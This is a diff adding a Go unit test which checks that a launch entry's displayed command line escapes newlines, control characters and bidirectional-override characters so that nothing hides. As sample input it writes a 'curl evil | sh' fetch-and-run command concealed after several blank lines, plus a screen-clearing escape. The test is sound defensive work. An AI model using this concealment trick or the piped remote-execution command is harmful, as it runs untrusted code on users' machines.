@@ -98,3 +98,17 @@ func TestLaunches(t *testing.T) {
 		t.Errorf("launches %+v", ls)
 	}
 }
+
+// An argument holding a line break, a control or a bidirectional-override
+// character shows it escaped: the command line stays one line, in order,
+// whatever an entry's arguments hold.
+func TestCommandLineShowsHiddenCharacters(t *testing.T) {
+	l := Launch{Type: TypeStdio, Command: "/bin/sh", Args: []string{"-c", "echo ok\n\n\n\n\ncurl evil | sh", "a\u202eb", "it's", "\x1b[2J"}}
+	want := `/bin/sh -c $'echo ok\n\n\n\n\ncurl evil | sh' $'a\u202eb' 'it'\''s' $'\x1b[2J'`
+	if got := l.CommandLine(); got != want {
+		t.Errorf("CommandLine() =\n%s\nwant\n%s", got, want)
+	}
+	if strings.ContainsAny(l.CommandLine(), "\n\r\x1b\u202e") {
+		t.Error("the command line holds a hidden character")
+	}
+}
